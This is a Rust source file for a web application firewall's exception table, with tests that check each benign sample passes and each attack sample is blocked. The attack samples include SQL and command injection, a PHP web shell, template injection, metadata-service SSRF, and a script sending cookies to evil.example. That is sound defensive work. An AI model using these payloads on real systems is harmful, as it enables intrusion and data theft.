@@ -1,0 +1,588 @@
+//! The exceptions: findings that weigh nothing, or less, because of the field, the place or the form of what
+//! they stand in. Each of them stays in the analysis, with the exception's id.
+//!
+//! Tests hold each row against its examples, and the documentation against the table.
+
+use std::fmt::Write as _;
+
+use super::purpose;
+use super::purpose::*;
+use crate::{Class, Location, Place};
+
+/// An exception.
+#[derive(Clone, Copy, Debug)]
+pub struct Exception {
+    /// Its id, as events and explanations have it.
+    pub id: &'static str,
+    /// The classes that it is for; with none, all.
+    pub classes: &'static [Class],
+    /// The effect on a finding.
+    pub effect: Effect,
+    /// The findings, and where they stand.
+    pub what: &'static str,
+    /// What it leaves alone.
+    pub but: &'static str,
+    /// The reason.
+    pub why: &'static str,
+    /// What must pass because of it.
+    pub benign: Example,
+    /// What must be blocked all the same.
+    pub attack: Example,
+}
+
+/// The effect of an exception.
+#[derive(Clone, Copy, Debug)]
+pub enum Effect {
+    /// A finding weighs nothing. Who finds it asks whether that holds.
+    Suppresses,
+    /// A finding that its own neighbourhood shows to be quoted or named weighs less, where this holds of the
+    /// place.
+    Lowers(fn(Location<'_>) -> bool),
+    /// The same where a field for files has a value that is one.
+    LowersFiles,
+}
+
+use Effect::{Lowers, LowersFiles, Suppresses};
+
+/// A message, or a field of one.
+#[derive(Clone, Copy, Debug)]
+pub enum Example {
+    /// A member of JSON: its name and value.
+    Json(&'static str, &'static str),
+    /// A parameter of a query.
+    Query(&'static str, &'static str),
+    /// A body: its type and contents.
+    Body(&'static str, &'static [u8]),
+    /// The header field Referer of a request to `shop.example`.
+    Referer(&'static str),
+    /// The header field Cookie of a request.
+    Cookie(&'static str),
+    /// The body of a response.
+    Page(&'static str),
+}
+
+use Example::{Body, Cookie, Json, Page, Query, Referer};
+
+/// The table.
+pub const EXCEPTIONS: &[Exception] = &[
+    Exception {
+        id: "statements",
+        classes: &[Class::Sqli],
+        effect: Suppresses,
+        what: "a whole statement in a field for statements (`sql`, in bodies also `query`, `statement`, ...)",
+        but: "pieces of statements; commands, files, other machines, waiting",
+        why: "editors of databases and reports send them",
+        benign: Json("sql", "select password from users where 1=1 or 2=2"),
+        attack: Json("sql", "1 union select user, password from users-- -"),
+    },
+    Exception {
+        id: "conditions",
+        classes: &[Class::Sqli],
+        effect: Suppresses,
+        what: "conditions in a field for those of another query language (`jql`, `$filter`, `where`, `rule`, ...)",
+        but: "quotes that end a string, statements, calls that wait",
+        why: "they look like those of SQL",
+        benign: Json("filter", "status = 'open' AND (priority = 1 OR priority = 2) AND 1 = 1"),
+        attack: Json("filter", "x' or 1=1-- -"),
+    },
+    Exception {
+        id: "function-said",
+        classes: &[Class::Sqli],
+        effect: Suppresses,
+        what: "an expression or a call that is all of a search, a text, a statement or a condition",
+        but: "the same in other fields",
+        why: "people look for functions and write of them",
+        benign: Query("q", "current_user()"),
+        attack: Query("id", "sleep(5)"),
+    },
+    Exception {
+        id: "dump",
+        classes: &[Class::Sqli],
+        effect: Suppresses,
+        what: "an uploaded file that begins with a statement",
+        but: "fields, and files of less than 96 bytes",
+        why: "it is a dump of a database or a script for one",
+        benign: Body(
+            "multipart/form-data; boundary=x",
+            b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.sql\"\r\n\r\nINSERT INTO a VALUES (1, 'b'), (2, 'c');\nDELETE FROM a WHERE id = 1 OR 1=1;\nUPDATE a SET b = 'd' WHERE c = 1;\n\r\n--x--\r\n",
+        ),
+        attack: Body(
+            "multipart/form-data; boundary=x",
+            b"--x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n' or 1=1-- -\r\n--x--\r\n",
+        ),
+    },
+    Exception {
+        id: "password-signs",
+        classes: &[Class::Sqli, Class::Command, Class::Xss],
+        effect: Suppresses,
+        what: "signs, names and calls that a generator draws, in a field for passwords and secrets",
+        but: "conditions and statements behind a quote, commands with arguments",
+        why: "any signs stand in a secret",
+        benign: Json("api_secret", "x\"(9&;id|)$1%"),
+        attack: Json("api_secret", ";cat /etc/passwd"),
+    },
+    Exception {
+        id: "bare-in-body",
+        classes: &[Class::Command],
+        effect: Suppresses,
+        what: "a command without arguments in a body that no parser took apart",
+        but: "commands with arguments",
+        why: "words and signs stand there by chance",
+        benign: Body("text/plain", b"total|whoami"),
+        attack: Body("text/plain", b"x;cat /etc/passwd"),
+    },
+    Exception {
+        id: "site-scripts",
+        classes: &[Class::Xss],
+        effect: Suppresses,
+        what: "markup and scripts in a field for a site's own scripts (`head_code`, `custom_js`, `tracking`, ...)",
+        but: "scripts that open dialogs, send what the browser keeps, or hide what they call",
+        why: "administrators set counters and tag managers there",
+        benign: Json("head_code", "<script async src=\"https://tags.example/gtag/js?id=G-1\"></script>"),
+        attack: Json("head_code", "<script>fetch('//evil.example/?'+document.cookie)</script>"),
+    },
+    Exception {
+        id: "dialog-in-code",
+        classes: &[Class::Xss],
+        effect: Suppresses,
+        what: "a dialog that says something, as all of a field for code",
+        but: "code that reads, sends, loads or writes",
+        why: "examples of code have it",
+        benign: Json("js", "alert('Saved!')"),
+        attack: Json("js", "<svg onload=alert(1)>"),
+    },
+    Exception {
+        id: "reported-code",
+        classes: &[Class::Xss],
+        effect: Suppresses,
+        what: "the code in a browser's report of a content security policy (`script-sample`)",
+        but: "all else",
+        why: "the browser did not run it",
+        benign: Json("csp-report.script-sample", "eval(document.cookie)"),
+        attack: Json("csp-report.script-sample", "<script>alert(document.cookie)</script>"),
+    },
+    Exception {
+        id: "embedded-documents",
+        classes: &[Class::Xss],
+        effect: Suppresses,
+        what: "frames of another host without TLS, and style sheets of XML, in a field for documents",
+        but: "the same in other fields; frames with nothing but an address",
+        why: "editors take pages that are old",
+        benign: Json("content", "<p>See</p><iframe width=\"560\" src=\"http://player.example/v/1\" allowfullscreen></iframe>"),
+        attack: Query("q", "<iframe src=\"http://evil.example/login\" width=800></iframe>"),
+    },
+    Exception {
+        id: "header-fields",
+        classes: &[Class::Crlf],
+        effect: Suppresses,
+        what: "line ends with header fields behind them in a field for header fields (`headers`)",
+        but: "the same in other fields",
+        why: "clients of interfaces report them",
+        benign: Json("headers", "en\r\nSet-Cookie: a=b"),
+        attack: Json("lang", "en\r\nSet-Cookie: a=b"),
+    },
+    Exception {
+        id: "pattern",
+        classes: &[Class::Path],
+        effect: Suppresses,
+        what: "mixed and doubled separators in a field for patterns (`pattern`, `regex`)",
+        but: "paths that climb",
+        why: "patterns escape them",
+        benign: Json("pattern", "^[\\\\./]+\\.\\/a//..\\b"),
+        attack: Json("pattern", "../../../../etc/passwd"),
+    },
+    Exception {
+        id: "own-file",
+        classes: &[Class::Path],
+        effect: Suppresses,
+        what: "a path to settings, logs, data or certificates in a field for one (`config_path`, `log_file`, ...)",
+        but: "paths that climb; files that tell of users, keys, secrets",
+        why: "an installation says where its files are",
+        benign: Json("log_file", "/var/log/nginx/error.log"),
+        attack: Json("log_file", "/etc/shadow"),
+    },
+    Exception {
+        id: "own-folder",
+        classes: &[Class::Path],
+        effect: Suppresses,
+        what: "a path into a folder of the machine in a field for one (`upload_dir`, ...)",
+        but: "paths that climb; files that tell of users, keys, secrets",
+        why: "an installation says where its folders are",
+        benign: Json("log_dir", "/etc/nginx/conf.d"),
+        attack: Json("log_dir", "/etc/passwd"),
+    },
+    Exception {
+        id: "own-service",
+        classes: &[Class::Ssrf],
+        effect: Suppresses,
+        what: "the port of a service in the address of one, in a field for it (`redis_url`, `database`, ...)",
+        but: "metadata services, hidden notations, schemes that speak to any service",
+        why: "an installation says where its databases are",
+        benign: Json("elasticsearch_url", "http://10.0.0.5:9200"),
+        attack: Json("image_url", "http://127.0.0.1:9200/_search"),
+    },
+    Exception {
+        id: "own-host",
+        classes: &[Class::Ssrf],
+        effect: Suppresses,
+        what: "a host of a private network with its port, in a field for hosts (`hosts`, `brokers`, ...)",
+        but: "metadata services, hidden notations",
+        why: "an installation says where its machines are",
+        benign: Json("brokers", "10.0.0.5:9092"),
+        attack: Json("brokers", "169.254.169.254/latest/meta-data"),
+    },
+    Exception {
+        id: "referer-text",
+        classes: &[Class::Sqli, Class::Path, Class::Command],
+        effect: Suppresses,
+        what: "what a visitor typed into a text or search field of the site's own page, or asked a search engine",
+        but: "markup, lookups, template expressions and code",
+        why: "the request of that page was judged by itself",
+        benign: Referer("http://shop.example/s?q=x%27+or+1%3D1--+-"),
+        attack: Referer("http://shop.example/s?q=%3Cscript%3Ealert(1)%3C/script%3E"),
+    },
+    Exception {
+        id: "harmless-file",
+        classes: &[Class::Upload],
+        effect: Suppresses,
+        what: "the name of a file that a server runs, if all of it is a source of PHP that does nothing",
+        but: "sources that run, include, read, write, send or decode something, or cannot be read as a whole",
+        why: "developers upload their own classes and functions",
+        benign: Body("multipart/form-data; boundary=x", HARMLESS_FILE),
+        attack: Body(
+            "multipart/form-data; boundary=x",
+            b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system($_GET['c']);\r\n--x--\r\n",
+        ),
+    },
+    Exception {
+        id: "open-element",
+        classes: &[],
+        effect: Suppresses,
+        what: "texts of XML in compressed contents without a type that end before their element does",
+        but: "elements that end, and the same in a body of XML",
+        why: "such contents are a file; nobody has the value of an element without an end",
+        benign: Body("application/octet-stream", OPEN_ELEMENT),
+        attack: Body("application/xml", b"<a><b>x' union select user, password from users-- -</b></a>"),
+    },
+    Exception {
+        id: "found-in-part",
+        classes: &[],
+        effect: Suppresses,
+        what: "findings in a text of several parts that stand within one part, which was inspected by itself",
+        but: "what begins in one part and ends in another",
+        why: "each part shows better what it is: a link in prose is none of the prose",
+        benign: Body("application/xml", b"<p>Read <i>how sleep(5) works</i> there, or ask us.</p>"),
+        attack: Body("application/xml", b"<p>x' union <b>select</b> user, password from users-- -</p>"),
+    },
+    Exception {
+        id: "signed-session",
+        classes: &[Class::Ssrf, Class::RemoteFile, Class::Redirect, Class::Path, Class::Sqli, Class::Command],
+        effect: Suppresses,
+        what: "addresses, paths, whole statements and commands in a session that the application has signed",
+        but: "what ends a string or a command; markup, code, templates, lookups; cookies without a signature",
+        why: "the application checks its own signature first",
+        benign: Cookie(
+            "session=eyJuZXh0IjoiaHR0cDovLzEwLjAuMC41OjkwOTAvbWV0cmljcyJ9.aSrT0w.KzX9dGVzdHNpZ25hdHVyZXh4eXo",
+        ),
+        attack: Cookie("session=eyJuZXh0IjoiaHR0cDovLzEwLjAuMC41OjkwOTAvbWV0cmljcyJ9"),
+    },
+    Exception {
+        id: "file",
+        classes: &[],
+        effect: Lowers(is_of_file),
+        what: "what an uploaded file quotes or names",
+        but: "the same as a field's value",
+        why: "a file is a document by itself",
+        benign: Body(
+            "multipart/form-data; boundary=x",
+            b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.md\"\r\n\r\n# Notes\n\nRead it before the next step of the upgrade of the machine, and ask us when it is not clear to you.\n\n    <script src=//a.example/x.js></script>\r\n--x--\r\n",
+        ),
+        attack: Body(
+            "multipart/form-data; boundary=x",
+            b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n<svg onload=alert(document.cookie)>\r\n--x--\r\n",
+        ),
+    },
+    Exception {
+        id: "response",
+        classes: &[],
+        effect: Lowers(is_of_response),
+        what: "what the site's own page quotes or names",
+        but: "messages and sources that are no part of a sentence or an example",
+        why: "articles show error messages and code",
+        benign: Page(ARTICLE),
+        attack: Page("You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '1 at line 1"),
+    },
+    Exception {
+        id: "file-fields",
+        classes: &[],
+        effect: LowersFiles,
+        what: "what a text of several lines or a program quotes or names, in a field for files (`content`, ...)",
+        but: "quotes that end a string which the text did not begin; values of one line",
+        why: "editors and interfaces to repositories keep files there",
+        benign: Json("source_code", "import db\n\ndef names(connection):\n    query = 'select name from users where id = 1 or 1 = 1'\n    return connection.run(query)\n"),
+        attack: Json("source_code", "' or 1=1-- -"),
+    },
+    Exception {
+        id: "text",
+        classes: &[],
+        effect: Lowers(takes_text),
+        what: "what a text quotes, shows as code or names, in a field for text (`comment`, `message`, ...)",
+        but: "what is active wherever it stands; the same in other fields",
+        why: "people write of what they saw",
+        benign: Json("comment", "Run `ls -la; cat /etc/hosts` to see what is there."),
+        attack: Query("q", "Run `ls -la; cat /etc/hosts` to see what is there."),
+    },
+    Exception {
+        id: "queries",
+        classes: &[Class::Sqli],
+        effect: Lowers(takes_queries),
+        what: "pieces of statements that are quoted, in a field for statements, conditions, formulas or secrets",
+        but: "what ends a string; the same in other fields",
+        why: "the field is for what looks like it",
+        benign: Json("sql", "it's '1 or 1=1' here"),
+        attack: Json("sql", "1 union select user, password from users-- -"),
+    },
+    Exception {
+        id: "directory-filters",
+        classes: &[Class::Ldap],
+        effect: Lowers(takes_filters),
+        what: "a whole, balanced filter in a field for those of a directory (`ldap_filter`, `user_search`, ...)",
+        but: "what closes a parenthesis that it did not open",
+        why: "settings of a login by LDAP have it",
+        benign: Json("ldap_filter", "(&(objectClass=user)(|(uid=*)(mail=*)))"),
+        attack: Json("ldap_filter", "*)(uid=*))(|(uid=*"),
+    },
+    Exception {
+        id: "code",
+        classes: &[Class::Xss, Class::Command, Class::Path, Class::Code],
+        effect: Lowers(takes_code),
+        what: "what code quotes, names or computes, in a field for code (`code`, `snippet`, `script`, ...)",
+        but: "what is active wherever it stands",
+        why: "code is what the site asks for there",
+        benign: Json("js", "cat /etc/hosts | wc -l"),
+        attack: Json("code", "<?php system($_GET['c']); ?>"),
+    },
+    Exception {
+        id: "templates",
+        classes: &[Class::Template],
+        effect: Lowers(takes_templates),
+        what: "what an expression computes or shows, in a field for templates or code",
+        but: "expressions that reach the language below the engine, or what the engine keeps",
+        why: "templates are what the site asks for there",
+        benign: Json("layout", "{{ 7*7 }}"),
+        attack: Json("template", "{{ self.__init__.__globals__.os.popen('id').read() }}"),
+    },
+    Exception {
+        id: "code-samples",
+        classes: &[Class::Xss],
+        effect: Lowers(quotes_code),
+        what: "markup and code that a browser's report quotes (`sample`)",
+        but: "what is active wherever it stands",
+        why: "the browser did not run it",
+        benign: Json("csp-report.sample", "x javascript:alert(1)"),
+        attack: Json("csp-report.sample", "<script>alert(document.cookie)</script>"),
+    },
+    Exception {
+        id: "word-lists",
+        classes: &[Class::Xss, Class::Path],
+        effect: Lowers(lists_words),
+        what: "pieces of tags and paths in a list of words that texts may not have (`blocked_words`, ...)",
+        but: "markup that runs",
+        why: "such a list has them",
+        benign: Json("blocked_words", "<script\n<iframe\n../\n/etc/passwd\n"),
+        attack: Json("blocked_words", "<script>alert(document.cookie)</script>"),
+    },
+    Exception {
+        id: "set-ups",
+        classes: &[Class::Command, Class::Path, Class::Ssrf],
+        effect: Lowers(takes_set_up),
+        what: "commands, paths and addresses of a document that sets up a machine, or of a step of a project",
+        but: "commands behind a sign without a space, with hidden names, or that read secrets; paths that climb",
+        why: "administrators and pipelines run them",
+        benign: Json("dockerfile", "FROM a:1\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\nCMD [\"a\"]"),
+        attack: Json("dockerfile", "x;cat /etc/passwd"),
+    },
+    Exception {
+        id: "command-lines",
+        classes: &[Class::Command],
+        effect: Lowers(takes_lines),
+        what: "command lines of a project (`scripts` of a package, `run` and `entrypoint` of a job) or a container",
+        but: "the same as of set-ups",
+        why: "packages and pipelines have them",
+        benign: Json("scripts.build", "npm ci && npm run build && cp -r dist/ /srv/www"),
+        attack: Json("scripts.build", "x;cat /etc/passwd"),
+    },
+    Exception {
+        id: "tool-calls",
+        classes: &[Class::Sqli, Class::Command, Class::Ssrf],
+        effect: Lowers(takes_tool_call),
+        what: "a command line that a language model gives a tool (`params.arguments.command`, ...)",
+        but: "lines that do not begin with a command, with hidden names, or that read secrets",
+        why: "nothing breaks out of a line that is all of a command",
+        benign: Json("params.arguments.command", "ls -la; whoami"),
+        attack: Json("params.arguments.command", ";cat /etc/passwd"),
+    },
+    Exception {
+        id: "telemetry",
+        classes: &[Class::Command],
+        effect: Lowers(is_attribute),
+        what: "a command line in an attribute of a span or log record (OpenTelemetry)",
+        but: "lines that do not begin with a command, with hidden names, or that read secrets",
+        why: "services report what started them",
+        benign: Json("spans.attributes.value.stringValue", "ls -la; whoami"),
+        attack: Json("spans.attributes.value.stringValue", ";cat /etc/passwd"),
+    },
+    Exception {
+        id: "titles",
+        classes: &[Class::Path],
+        effect: Lowers(takes_title),
+        what: "a path that a sentence names, in a field for a title (`title`, `subject`, ...)",
+        but: "paths that climb, and a path as all of the value",
+        why: "people write of files",
+        benign: Json("title", "Why is /etc/passwd readable for all?"),
+        attack: Json("title", "/etc/passwd"),
+    },
+];
+
+/// A source of PHP that declares and computes.
+const HARMLESS_FILE: &[u8] = b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php\n\nnamespace Shop;\n\nfinal class Price\n{\n    private int $cents = 0;\n\n    public function cents(): int\n    {\n        return $this->cents;\n    }\n}\n\r\n--x--\r\n";
+
+/// A page of a manual.
+const ARTICLE: &str = "<!doctype html><html><head><title>Manual</title></head><body><h1>Errors</h1><p>When the \
+    application sends a statement that the server cannot read, the driver raises an exception. The message tells \
+    where the parser stopped, which is seldom where the mistake is. Look at the words before that place: a quote \
+    that was not closed, a comma too many, or a name that is a word of the language.</p><pre><code>ERROR 1064 \
+    (42000): You have an error in your SQL syntax; check the manual that corresponds to your MySQL</code></pre>\
+    <p>Most libraries let you pass the values beside the statement, and then nothing that a user writes is ever \
+    read as a part of it, which is also what keeps an attacker out of the database and of its other tables.</p>\
+    </body></html>";
+
+/// XML in gzip without an end: `<a><p>words of a text</p>...<b>/etc/passwd<i>x`.
+const OPEN_ELEMENT: &[u8] =
+    b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03\xb3\x49\xb4\xb3\x29\xb0\x2b\xcf\x2f\x4a\x29\x56\xc8\x4f\
+    \x53\x48\x54\x28\x49\xad\x28\xb1\xd1\x2f\x18\x15\x1d\x15\x1d\x15\x1d\x15\x1d\x15\x45\x88\x26\xd9\
+    \xe9\xa7\x96\x24\xeb\x17\x24\x16\x17\x97\xa7\xd8\x64\xda\x55\x00\x00\xad\x8e\x5d\x8e\x3d\x05\x00\
+    \x00";
+
+fn is_of_file(location: Location<'_>) -> bool {
+    location.place == Place::FileContent
+}
+
+fn is_of_response(location: Location<'_>) -> bool {
+    location.place.is_response()
+}
+
+fn takes_queries(location: Location<'_>) -> bool {
+    takes_statements(location)
+        || takes_conditions(location)
+        || takes_password(location)
+        || takes_formula(location)
+}
+
+fn takes_lines(location: Location<'_>) -> bool {
+    takes_command_lines(location) || takes_container_command(location)
+}
+
+fn takes_set_up(location: Location<'_>) -> bool {
+    takes_configuration(location) || takes_step(location)
+}
+
+/// The exception with this id.
+pub fn find(id: &str) -> Option<&'static Exception> {
+    EXCEPTIONS.iter().find(|row| row.id == id)
+}
+
+/// The exception by which what is quoted or named at `location` weighs less for `class`: the site made the
+/// field for text or for such things, or it is a document by itself. `is_file`: the value is one, in a field
+/// for files.
+pub(crate) fn mention(class: Class, location: Location<'_>, is_file: bool) -> Option<&'static str> {
+    let is_document = is_file || is_of_file(location) || is_of_response(location);
+    if !is_document && !purpose::has_plain_name(location) {
+        return None;
+    }
+    let holds = |row: &&Exception| match row.effect {
+        Lowers(holds) => (row.classes.is_empty() || row.classes.contains(&class)) && holds(location),
+        LowersFiles => is_file,
+        Suppresses => false,
+    };
+    EXCEPTIONS.iter().find(holds).map(|row| row.id)
+}
+
+/// The table as Markdown, as it stands in the documentation.
+pub fn markdown() -> String {
+    let mut out =
+        "| exception | classes | effect | findings | not | why |\n|---|---|---|---|---|---|\n".to_owned();
+    for row in EXCEPTIONS {
+        let Exception { id, what, but, why, .. } = row;
+        let names: Vec<&str> = row.classes.iter().map(|class| class.name()).collect();
+        let classes = if names.is_empty() { "all".to_owned() } else { names.join(", ") };
+        let effect = if let Suppresses = row.effect { "suppresses" } else { "lowers" };
+        let _ = writeln!(out, "| `{id}` | {classes} | {effect} | {what} | {but} | {why} |");
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use std::sync::LazyLock;
+
+    use super::*;
+    use crate::{Analysis, Detectors, Level};
+
+    static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);
+
+    impl Example {
+        /// The ids of the exceptions that suppress something in it, and whether it is blocked.
+        fn look(self) -> (Vec<&'static str>, bool) {
+            let mut analysis = Analysis::new();
+            let at = |place, name: &'static str| Location::new(place, name.as_bytes());
+            match self {
+                Json(name, value) => {
+                    analysis.value(&DETECTORS, at(Place::Json, name), value.as_bytes());
+                }
+                Query(name, value) => {
+                    analysis.value(&DETECTORS, at(Place::Query, name), value.as_bytes());
+                }
+                Body(media_type, body) => {
+                    analysis.request_body(&DETECTORS, media_type.as_bytes(), body);
+                }
+                Referer(address) => {
+                    let fields = [(&b"Host"[..], &b"shop.example"[..]), (b"Referer", address.as_bytes())];
+                    analysis.request_head(&DETECTORS, b"GET", b"/", fields.into_iter());
+                }
+                Cookie(cookies) => {
+                    let fields = [(&b"Cookie"[..], cookies.as_bytes())];
+                    analysis.request_head(&DETECTORS, b"GET", b"/", fields.into_iter());
+                }
+                Page(body) => {
+                    analysis.value(&DETECTORS, Location::of(Place::ResponseBody), body.as_bytes());
+                }
+            }
+            let rows = analysis.findings().iter().filter_map(|found| found.suppressed_by).collect();
+            let worst = analysis.worst(&DETECTORS, Level::Balanced);
+            (rows, worst.is_some_and(|worst| worst.blocks(Level::Balanced)))
+        }
+    }
+
+    #[test]
+    fn each_exception_holds_and_ends() {
+        let mut wrong = String::new();
+        for row in EXCEPTIONS {
+            let (rows, is_blocked) = row.benign.look();
+            if !rows.contains(&row.id) || is_blocked {
+                let _ = writeln!(wrong, "{}: suppressed by {rows:?}, blocked {is_blocked}", row.id);
+            }
+            if !row.attack.look().1 {
+                let _ = writeln!(wrong, "{}: the attack passes", row.id);
+            }
+        }
+        assert!(wrong.is_empty(), "{wrong}");
+    }
+
+    /// The documentation has the table as it is.
+    #[test]
+    fn the_documentation_has_it() {
+        let docs = include_str!("../../../../docs/semantic.md");
+        assert!(docs.contains(&markdown()), "docs/semantic.md lacks this table:\n{}", markdown());
+    }
+}
